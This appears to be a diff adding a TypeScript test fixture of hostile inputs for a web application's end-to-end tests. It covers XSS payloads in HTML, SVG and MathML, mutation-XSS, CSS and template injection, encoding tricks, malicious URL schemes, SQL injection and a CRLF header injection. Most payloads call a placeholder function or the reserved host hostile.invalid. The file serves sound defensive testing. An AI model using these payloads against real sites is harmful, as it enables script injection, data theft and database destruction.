@@ -1,0 +1,236 @@
+/**
+ * Texts that want to become code: a list of our own, in the manner of the well-known ones. Whatever of them runs calls
+ * `hostile(1)` or asks `https://hostile.invalid/`; tests watch both (tests/e2e/hostile-content.test.ts). They are put
+ * into every field, by the API and by paste, and must be refused or shown as the letters they are.
+ */
+
+/** Elements that run by themselves. */
+const ELEMENTS = [
+  '<script>hostile(1)</script>',
+  '<ScRiPt>hostile(1)</sCrIpT>',
+  '<script src=https://hostile.invalid/x.js></script>',
+  '<script type=module>hostile(1)</script>',
+  '<script\t>hostile(1)</script\n>',
+  '<script/x>hostile(1)</script>',
+  '<<script>hostile(1);//<</script>',
+  '<scr<script>ipt>hostile(1)</scr</script>ipt>',
+  '</script><script>hostile(1)</script>',
+  '</title><script>hostile(1)</script>',
+  '</textarea><script>hostile(1)</script>',
+  '</style><script>hostile(1)</script>',
+  '</template><script>hostile(1)</script>',
+  '</noscript><script>hostile(1)</script>',
+  '--><script>hostile(1)</script>',
+  ']]><script>hostile(1)</script>',
+  '<iframe srcdoc="<script>parent.hostile(1)</script>"></iframe>',
+  '<iframe src="javascript:parent.hostile(1)"></iframe>',
+  '<iframe src="https://hostile.invalid/frame"></iframe>',
+  '<object data="javascript:hostile(1)"></object>',
+  '<object data="data:text/html,<script>parent.hostile(1)</script>"></object>',
+  '<embed src="javascript:hostile(1)">',
+  '<embed src="data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+">',
+  '<base href="https://hostile.invalid/">',
+  '<link rel=stylesheet href="https://hostile.invalid/x.css">',
+  '<link rel=preload as=script href="https://hostile.invalid/x.js">',
+  '<meta http-equiv=refresh content="0;url=https://hostile.invalid/">',
+  '<meta http-equiv=refresh content="0;url=javascript:hostile(1)">',
+  '<form action="https://hostile.invalid/"><button autofocus>送信</button></form>',
+  '<portal src="https://hostile.invalid/">',
+  '<applet code="x" archive="https://hostile.invalid/x.jar"></applet>',
+]
+
+/** Attributes that run when something loads, fails, is focused, moves or opens. */
+const ATTRIBUTES = [
+  '<img src=x onerror=hostile(1)>',
+  '<img src=x onerror="hostile`1`">',
+  '<img src=x:x onerror=hostile(1) //',
+  '<IMG """><SCRIPT>hostile(1)</SCRIPT>">',
+  '<img/src=x/onerror=hostile(1)>',
+  '<img src=https://hostile.invalid/pixel.gif>',
+  '<img srcset="https://hostile.invalid/a.png 1x">',
+  '<image src=x onerror=hostile(1)>',
+  '<video src=x onerror=hostile(1)></video>',
+  '<video><source onerror=hostile(1)></video>',
+  '<audio src=x onerror=hostile(1)></audio>',
+  '<video poster="https://hostile.invalid/poster.png"></video>',
+  '<body onload=hostile(1)>',
+  '<input autofocus onfocus=hostile(1)>',
+  '<input type=image src=x onerror=hostile(1)>',
+  '<select autofocus onfocus=hostile(1)></select>',
+  '<details open ontoggle=hostile(1)><summary>開く</summary></details>',
+  '<marquee onstart=hostile(1)>流れる</marquee>',
+  '<div onpointerenter=hostile(1) style="position:fixed;inset:0">触れる</div>',
+  '<div contenteditable autofocus onfocus=hostile(1)>書く</div>',
+  '<div popover id=p onbeforetoggle=hostile(1)>開く</div><button popovertarget=p>開く</button>',
+  '<x onanimationstart=hostile(1) style="animation:x">x</x>',
+  '<x tabindex=1 onfocus=hostile(1) autofocus>x</x>',
+  '" onmouseover="hostile(1)" x="',
+  "' onfocus='hostile(1)' autofocus='",
+  '"><img src=x onerror=hostile(1)>',
+  "'><img src=x onerror=hostile(1)>",
+  '`><img src=x onerror=hostile(1)>',
+  '" autofocus onfocus="hostile(1)',
+  '"/style="animation-name:x"/onanimationstart="hostile(1)',
+]
+
+/** SVG and MathML: another parser's rules inside the page. */
+const FOREIGN = [
+  '<svg onload=hostile(1)>',
+  '<svg><script>hostile(1)</script></svg>',
+  '<svg><script>hostile&#40;1&#41;</script></svg>',
+  '<svg><script href="https://hostile.invalid/x.js"/></svg>',
+  '<svg><a xlink:href="javascript:hostile(1)"><text y=20>押す</text></a></svg>',
+  '<svg><animate onbegin=hostile(1) attributeName=x dur=1s>',
+  '<svg><set attributeName=onmouseover to=hostile(1)>',
+  '<svg><a><animate attributeName=href values=javascript:hostile(1) /><text y=20>押す</text></a></svg>',
+  '<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>hostile(1)</script></svg>#x"/></svg>',
+  '<svg><image href="https://hostile.invalid/x.png" onerror=hostile(1)></svg>',
+  '<svg><foreignObject><iframe srcdoc="<script>parent.hostile(1)</script>"></iframe></foreignObject></svg>',
+  '<math><maction actiontype="statusline#" xlink:href="javascript:hostile(1)">押す</maction></math>',
+  '<math href="javascript:hostile(1)">押す</math>',
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=hostile(1)></annotation-xml></math>',
+]
+
+/** Markup that is harmless until it has been parsed, written and parsed again. */
+const MUTATIONS = [
+  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=hostile(1)&gt;">',
+  '<svg></p><style><a id="</style><img src=x onerror=hostile(1)>">',
+  '<noscript><p title="</noscript><img src=x onerror=hostile(1)>">',
+  '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hostile(1)>',
+  '<select><template><img src=x onerror=hostile(1)></template></select>',
+  '<template shadowrootmode=open><img src=x onerror=hostile(1)></template>',
+  '<table><td background="https://hostile.invalid/x.png">',
+  '<listing>&lt;img src=x onerror=hostile(1)&gt;</listing>',
+  '<xmp><p title="</xmp><img src=x onerror=hostile(1)>">',
+  '<!--><img src=x onerror=hostile(1)>-->',
+  '<!--><!--!><img src=x onerror=hostile(1)>',
+  '<![CDATA[><img src=x onerror=hostile(1)>]]>',
+  '<?xml ><img src=x onerror=hostile(1)>',
+  '<a href="x" title="&quot;><img src=x onerror=hostile(1)>">x</a>',
+  '<p title="`onmouseover=hostile(1) ">x</p>',
+]
+
+/** Style sheets that ask elsewhere or, in browsers of the past, ran. */
+const STYLES = [
+  '<style>@import "https://hostile.invalid/x.css";</style>',
+  '<style>body{background:url(https://hostile.invalid/x.png)}</style>',
+  '<div style="background:url(https://hostile.invalid/x.png)">x</div>',
+  '<div style="background:url(javascript:hostile(1))">x</div>',
+  '<div style="width:expression(hostile(1))">x</div>',
+  '<div style="-moz-binding:url(https://hostile.invalid/x.xml#x)">x</div>',
+  '</style><style>*{display:none!important}</style>',
+  'x;}</style><script>hostile(1)</script>',
+  'url(https://hostile.invalid/x.png)',
+  '50%;background:url(https://hostile.invalid/x.png)',
+]
+
+/** Languages of templates and of what stands inside scripts, JSON-LD and payloads. */
+const TEMPLATES = [
+  '{{constructor.constructor("hostile(1)")()}}',
+  '$' + '{hostile(1)}',
+  '#{hostile(1)}',
+  '<%= hostile(1) %>',
+  '{{{html}}}<img src=x onerror=hostile(1)>',
+  "';hostile(1);//",
+  '";hostile(1);//',
+  '`;hostile(1);//',
+  '\\";hostile(1);//',
+  "\\';hostile(1);//",
+  '*/hostile(1);/*',
+  '\u2028hostile(1)\u2029//',
+  '{"@type":"Thing","name":"</script><script>hostile(1)</script>"}',
+  '<!--<script>hostile(1)</script>-->',
+  '<!--<script>',
+  '[押す](javascript:hostile(1))',
+  '![x](x"onerror="hostile(1))',
+  '=HYPERLINK("https://hostile.invalid/","押す")',
+  '\r\nSet-Cookie: hostile=1\r\n\r\n<script>hostile(1)</script>',
+  "'; DROP TABLE manuscripts; --",
+  "%' OR 1=1 --",
+]
+
+/** Entities, encodings, and letters that are not what they look like. */
+const DISGUISES = [
+  '&lt;script&gt;hostile(1)&lt;/script&gt;',
+  '&#60;img src=x onerror=hostile(1)&#62;',
+  '&#x3c;img src=x onerror=hostile(1)&#x3e;',
+  '&amp;lt;img src=x onerror=hostile(1)&amp;gt;',
+  '%3Cscript%3Ehostile(1)%3C/script%3E',
+  '\\u003cscript\\u003ehostile(1)\\u003c/script\\u003e',
+  '\\x3cimg src=x onerror=hostile(1)\\x3e',
+  '+ADw-script+AD4-hostile(1)+ADw-/script+AD4-',
+  '＜script＞hostile(1)＜/script＞',
+  '‹img src=x onerror=hostile(1)›',
+  '<\u0000script>hostile(1)</script>',
+  '<scr\u0000ipt>hostile(1)</scr\u0000ipt>',
+  '<img src=x o\u0000nerror=hostile(1)>',
+  '<img\u000csrc=x\u000conerror=hostile(1)>',
+  '<img src=x onerror\u3000=hostile(1)>',
+  '<ſcript>hostile(1)</ſcript>',
+  '\u202e>)1(elitsoh=rorreno x=crs gmi<',
+  '\u2066<img src=x onerror=hostile(1)>\u2069',
+  '\ufeff<script>hostile(1)</script>',
+  '\u200b<\u200bscript>hostile(1)</script>',
+  '\ud83d\ude00<img src=x onerror=hostile(1)>',
+  'か\u3099<img src=x onerror=hostile(1)>ﾊﾟ',
+]
+
+/** Names that objects have already. */
+const NAMES = ['__proto__', 'constructor', 'prototype', 'toString', 'hasOwnProperty', 'then', 'toJSON']
+
+/** More than a field should hold. */
+const HUGE = [
+  `${'<b>'.repeat(400)}<img src=x onerror=hostile(1)>`,
+  `${'あ'.repeat(1500)}<script>hostile(1)</script>`,
+  `${'\u0301'.repeat(500)}<img src=x onerror=hostile(1)>`,
+]
+
+export const HOSTILE_TEXTS: readonly string[] = [
+  ...ELEMENTS,
+  ...ATTRIBUTES,
+  ...FOREIGN,
+  ...MUTATIONS,
+  ...STYLES,
+  ...TEMPLATES,
+  ...DISGUISES,
+  ...NAMES,
+  ...HUGE,
+]
+
+/** Addresses for every field that holds one: none of them may stand in an `href` or `src`. */
+export const HOSTILE_URLS: readonly string[] = [
+  'javascript:hostile(1)',
+  'JaVaScRiPt:hostile(1)',
+  ' javascript:hostile(1)',
+  '\u0001javascript:hostile(1)',
+  'java\tscript:hostile(1)',
+  'java\nscript:hostile(1)',
+  'java\r\nscript:hostile(1)',
+  'javascript\t:hostile(1)',
+  'javascript://https://example.jp/%0Ahostile(1)',
+  'javascript:/*https://example.jp*/hostile(1)',
+  'javascript&colon;hostile(1)',
+  'javascript&#58;hostile(1)',
+  '&#106;avascript:hostile(1)',
+  'jav&#x0A;ascript:hostile(1)',
+  'vbscript:hostile(1)',
+  'livescript:hostile(1)',
+  'view-source:javascript:hostile(1)',
+  'data:text/html,<script>hostile(1)</script>',
+  'data:text/html;base64,PHNjcmlwdD5ob3N0aWxlKDEpPC9zY3JpcHQ+',
+  'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="hostile(1)"/>',
+  'data:application/xhtml+xml,<script xmlns="http://www.w3.org/1999/xhtml">hostile(1)</script>',
+  'blob:https://hostile.invalid/x',
+  'filesystem:https://hostile.invalid/x',
+  'file:///etc/passwd',
+  'ftp://hostile.invalid/',
+  'intent://hostile.invalid/#Intent;scheme=http;end',
+  '//hostile.invalid/',
+  '/\\hostile.invalid/',
+  '\\\\hostile.invalid/',
+  '/\t/hostile.invalid/',
+  '/\n/hostile.invalid/',
+  'https:hostile(1)',
+  'https://hostile.invalid/" onclick="hostile(1)',
+  'http://user:pass@hostile.invalid/',
+]
